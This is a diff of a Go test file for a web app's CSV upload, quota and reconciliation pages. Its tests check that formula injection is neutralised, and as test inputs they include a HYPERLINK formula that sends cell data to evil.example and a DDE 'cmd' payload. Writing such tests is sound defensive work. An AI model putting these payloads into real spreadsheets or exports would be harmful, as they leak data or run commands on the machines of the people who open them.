@@ -76,8 +76,8 @@ func TestCSVDownloadsNeutraliseFormulas(t *testing.T) {
 	require.Contains(t, got["reconcile report"], `"'=HYPERLINK(""http://evil.example/?x=""&A2,""Click"")"`)
 
 	// A dry run's rejects, with a hostile raw line and reason.
-	a = b.upload(t, ann, "/upload", map[string]string{"stock": "S1", "name": "dry"}, "openid\noDry00001\n=cmd|' /C calc'!A0\n-2+3\n", nil)
-	require.Equal(t, http.StatusOK, a.Status, a.Body)
+	a, ok := b.dryRun(t, ann, map[string]string{"stock": "S1", "name": "dry"}, "openid\noDry00001\n=cmd|' /C calc'!A0\n-2+3\n")
+	require.True(t, ok, a.Body)
 	tok := between(a.Body, `action="/upload/`, `/create"`)
 	rj := b.get(t, ann, "/upload/"+tok+"/rejects.csv", nil)
 	require.Equal(t, http.StatusOK, rj.Status, rj.Body)
@@ -97,9 +97,10 @@ func TestBatchNameRules(t *testing.T) {
 		a := b.upload(t, ann, "/api/v1/batches", map[string]string{"stock": "S1", "name": name}, csvOf("n", 2), nil)
 		requireJSONError(t, a, http.StatusUnprocessableEntity)
 		require.Contains(t, a.Body, "batch name")
-		a = b.upload(t, ann, "/upload", map[string]string{"stock": "S1", "name": name}, csvOf("n", 2), nil)
-		require.Equal(t, http.StatusUnprocessableEntity, a.Status)
+		a, ok := b.dryRun(t, ann, map[string]string{"stock": "S1", "name": name}, csvOf("n", 2))
+		require.False(t, ok)
 		require.Contains(t, a.Body, "batch name")
+		require.Contains(t, a.Body, `role="alert"`)
 	}
 	require.Empty(t, b.batches(t))
 	require.Empty(t, b.uploadFiles(t))
@@ -230,7 +231,12 @@ func TestUploadQuotas(t *testing.T) {
 	ann, otto, ada := b.login(t, "ann"), b.login(t, "otto"), b.login(t, "ada")
 	dryRun := func(c *http.Client, file string) (int, string) {
 		t.Helper()
-		a := b.upload(t, c, "/upload", map[string]string{"stock": "S1", "name": "q"}, file, nil)
+		a, ok := b.dryRun(t, c, map[string]string{"stock": "S1", "name": "q"}, file)
+		if !ok {
+			// Back at the form, which says why.
+			require.Contains(t, a.Body, "console.pending_uploads_mb")
+			return http.StatusServiceUnavailable, ""
+		}
 		return a.Status, between(a.Body, `action="/upload/`, `/create"`)
 	}
 	alive := func(c *http.Client, tok string) bool {
@@ -295,8 +301,8 @@ func TestReconcileErrorsInPlainWords(t *testing.T) {
 	}
 	otto := b.login(t, "otto")
 	for lang, want := range map[string]string{"en": "WeChat Pay could not be reached", "zh": "无法连接微信支付"} {
-		a := b.post(t, otto, "/reconciliation/fetch?lang="+lang, url.Values{"stock": {simStock}}, nil)
-		require.Equal(t, http.StatusBadGateway, a.Status, a.Body)
+		a := b.follow(t, otto, b.post(t, otto, "/reconciliation/fetch?lang="+lang, url.Values{"stock": {simStock}}, nil))
+		require.Contains(t, a.Body, `role="alert"`)
 		require.Contains(t, a.Body, want)
 		for _, raw := range []string{"127.0.0.1", "dial tcp", "wxpay:", "connection refused"} {
 			require.NotContains(t, a.Body, raw, lang)
